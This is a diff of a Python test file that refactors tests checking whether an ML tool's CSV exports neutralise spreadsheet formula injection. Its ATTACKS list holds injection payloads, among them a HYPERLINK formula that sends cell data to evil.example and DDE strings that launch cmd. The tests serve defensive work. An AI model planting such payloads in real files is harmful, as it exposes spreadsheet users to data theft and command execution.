@@ -7,16 +7,11 @@ a package's example rows; the predictions file (for machines) is left as it came
 from __future__ import annotations
 
 import csv
-import json
-import subprocess
-import sys
 
 import pandas as pd
 import pytest
 
-from mlops_desktop.core.export import export_version
-from mlops_desktop.core.workspace import Workspace
-from test_export_fixtures import FEATURES, approve, flights_late, train_late
+from test_export_fixtures import FEATURES, export_late, score_py, summary_of
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -86,21 +81,11 @@ def test_table_exports_from_the_gui_are_neutralised(qtbot, tmp_path):
 @pytest.fixture(scope="module")
 def hostile_package(tmp_path_factory):
     """A model trained on flights whose carriers look like formulas."""
-    base = tmp_path_factory.mktemp("csv-injection")
-    data = base / "flights_late.csv"
-    df = flights_late(data)
-    df["carrier"] = df["carrier"].map({"UA": "=UA", "AA": "@AA", "B6": "+B6"}).fillna(df["carrier"])
-    df.to_csv(data, index=False)
-    with Workspace.create(base / "ws", actor="ann") as ws:
-        ref = train_late(ws, data)
-        approve(ws, ref)
-        pkg = export_version(ws, ref, base / "pkg", actor="carl").path
+    def formula_like(df: pd.DataFrame) -> pd.DataFrame:
+        return df.assign(carrier=df["carrier"].map({"UA": "=UA", "AA": "@AA", "B6": "+B6"}).fillna(df["carrier"]))
+
+    pkg, df, _ = export_late(tmp_path_factory.mktemp("csv-injection"), formula_like)
     return pkg, df
-
-
-def _score(pkg, *args, cwd):
-    return subprocess.run([sys.executable, str(pkg / "score.py"), *map(str, args)], capture_output=True,
-                          text=True, cwd=cwd, timeout=600)
 
 
 def test_the_rejects_file_is_neutralised_and_the_predictions_are_not(hostile_package, tmp_path):
@@ -112,7 +97,7 @@ def test_the_rejects_file_is_neutralised_and_the_predictions_are_not(hostile_pac
     rows["distance"] = ["-3.5", "100", "200", "-1,5", "300", "400"]   # "-1,5" (a point file): rejected
     source = tmp_path / "batch.csv"
     rows.to_csv(source, index=False)
-    done = _score(pkg, source, "-o", tmp_path / "out.csv", cwd=tmp_path)
+    done = score_py(pkg, source, "-o", tmp_path / "out.csv", cwd=tmp_path)
     assert done.returncode == 0, done.stderr
     rejects = pd.read_csv(tmp_path / "out.rejects.csv", dtype=str, keep_default_na=False)
     assert rejects["input_row"].tolist() == ["1", "4", "6"]
@@ -137,6 +122,6 @@ def test_the_example_rows_are_neutralised_and_the_self_test_passes(hostile_packa
     delays = [float(v) for v in examples["dep_delay"] if v]
     assert min(delays) < 0  # negative numbers are written as numbers, not quoted
     assert sorted(examples.columns) == sorted(["row_id", *FEATURES])  # the header names the model's columns
-    self_test = _score(pkg, "--self-test", cwd=tmp_path)
+    self_test = score_py(pkg, "--self-test", cwd=tmp_path)
     assert self_test.returncode == 0, self_test.stderr
-    assert json.loads(self_test.stdout.strip().splitlines()[-1])["self_test"] == "passed"
+    assert summary_of(self_test)["self_test"] == "passed"
